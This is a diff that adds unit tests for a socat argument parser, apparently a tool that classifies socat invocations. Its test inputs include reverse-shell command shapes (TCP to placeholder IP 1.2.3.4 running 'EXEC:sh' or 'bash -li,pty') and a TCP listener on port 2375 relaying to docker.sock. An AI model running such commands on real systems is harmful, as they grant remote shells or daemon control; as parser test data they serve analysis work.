@@ -316,3 +316,38 @@ describe('parseSocatArgs: properties', () => {
     expect(parseSocatArgs(argv)).toEqual(parseSocatArgs([...argv]));
   });
 });
+
+describe('parseSocatArgs: facts beyond host and port', () => {
+  it.each<readonly [string, string, string]>([
+    ['docker.sock', 'UNIX-CONNECT:/var/run/docker.sock', '/var/run/docker.sock'],
+    ['X11', 'UNIX-CONNECT:/tmp/.X11-unix/X0', '/tmp/.X11-unix/X0'],
+    ['a database socket', 'UNIX-CONNECT:/var/run/mysqld/mysqld.sock', '/var/run/mysqld/mysqld.sock'],
+    ['an abstract socket', 'ABSTRACT-CONNECT:/containerd-shim/x.sock', '@/containerd-shim/x.sock'],
+  ])('a TCP listener bridged to %s is a relay naming the socket', (_name, unix, socket) => {
+    expect(parseSocatArgs(['socat', 'TCP-LISTEN:2375,reuseaddr,fork', unix])).toMatchObject({ role: 'relay', transport: 'tcp', port: 2375, socket });
+  });
+
+  it.each<readonly [string, readonly string[], RegExp]>([
+    ['unknown keyword', ['socat', 'TCPX:1.2.3.4:1', 'EXEC:sh'], /no address type/],
+    ['unknown address option', ['socat', 'TCP:1.2.3.4:1,bogus', 'EXEC:sh'], /option is unknown/],
+    ['unknown socat option', ['socat', '-Z', 'TCP:1.2.3.4:1', 'EXEC:sh'], /no option/],
+    ['unclosed quote', ['socat', 'TCP:1.2.3.4:1', "EXEC:'bash -li,pty"], /quote is not closed/],
+    ['EXEC with an unquoted colon', ['socat', 'TCP:1.2.3.4:1', 'EXEC:sh -c a:b'], /wrong number of parameters/],
+    ['-V prints and exits', ['socat', '-V', 'TCP:1.2.3.4:1', 'EXEC:sh'], /print and exit/],
+  ])('%s: role unknown with the reason', (_name, argv, reason) => {
+    const r = parseSocatArgs(argv);
+    expect(r.role).toBe('unknown');
+    expect(r.refused).toMatch(reason);
+  });
+
+  it('program is what socat runs, after its unquoting and unescaping', () => {
+    expect(parseSocatArgs(['socat', 'TCP:1.2.3.4:1', 'EXEC:sh -c echo\\:x']).program).toBe('sh -c echo:x');
+    expect(parseSocatArgs(['socat', 'TCP:1.2.3.4:1', 'EXEC:"sh -c \'id\'"']).program).toBe("sh -c 'id'");
+    expect(parseSocatArgs(['socat', 'TCP:1.2.3.4:1', 'SYSTEM:echo a\\,b,pty'])).toMatchObject({ program: 'echo a,b', pty: true });
+    expect(parseSocatArgs(['socat', 'TCP:1.2.3.4:1', 'SYSTEM:echo a:b']).program).toBe('echo a');
+  });
+
+  it('both halves of a dual address are peers, the connecting one first', () => {
+    expect(parseSocatArgs(['socat', 'TCP-LISTEN:80!!TCP:1.2.3.4:5', 'EXEC:sh']).peers?.map((p) => p.direction)).toEqual(['connect', 'listen']);
+  });
+});
